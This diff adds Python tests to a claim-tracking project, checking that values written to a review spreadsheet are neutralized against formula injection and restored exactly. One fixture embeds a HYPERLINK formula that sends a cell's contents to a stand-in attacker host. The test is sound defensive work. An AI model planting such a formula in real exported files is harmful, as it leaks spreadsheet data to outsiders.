@@ -284,3 +284,44 @@ def test_a_long_address_is_shown_whole_and_linked_by_its_start(url: str) -> None
     assert a["href"] == url and a["rel"] == ["noopener", "noreferrer"]
     assert a.get_text() == url[:LINKED_CHARS]
     assert soup.li.get_text() == url
+
+
+# --- the review file (extract -> spreadsheet -> accept) ------------------------------------------
+
+
+@given(st.text(max_size=12))
+@settings(max_examples=300)
+def test_review_cells_neutralize_and_restore_exactly(value: str) -> None:
+    from claimbook.csvsafe import neutralize_reversibly, restore_cell
+
+    written = neutralize_reversibly(value)
+    assert not written.startswith(FORMULA_STARTS)
+    assert restore_cell(written) == value
+
+
+def test_a_formula_in_a_source_is_inert_in_the_review_file_and_accepted_verbatim(
+        data_copy: Path, tmp_path: Path) -> None:
+    from claimbook import review, sources, store
+
+    text = ('=HYPERLINK("https://evil.example/?"&A1,"Details") said the ministry on 3 '
+            "September 2025.\n-5 degrees, the ministry said.\n")
+    article = tmp_path / "a.txt"
+    article.write_text(text, encoding="utf-8")
+    src = sources.add_source(data_copy, article, title="t", publisher="p")
+    out = tmp_path / "review.csv"
+    rows = [{c: "" for c in review.REVIEW_COLUMNS} | {
+        "candidate_id": f"K00{i}", "mention": "1", "keep": "yes", "claim": quote,
+        "claimant": "@ministry", "claimant_type": "government", "claim_type": "statement",
+        "date": "2025-09", "doc_id": src.doc_id, "start": str(text.index(quote)),
+        "end": str(text.index(quote) + len(quote)), "quote": quote}
+        for i, quote in enumerate(["=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\") said",
+                                   "-5 degrees"], start=1)]
+    review.write_review(out, rows)
+    with open(out, encoding="utf-8-sig", newline="") as f:
+        cells = [v for r in csv.reader(f) for v in r]
+    assert not [v for v in cells if v.startswith(FORMULA_STARTS)], "a spreadsheet runs nothing"
+    done = review.accept(out, data_copy)
+    assert [c["claim"] for c in done.claims] == [r["claim"] for r in rows]
+    assert {c["claimant"] for c in done.claims} == {"@ministry"}
+    claims = store.load(data_copy).claims
+    assert set(claims["claim"]) >= {r["claim"] for r in rows}
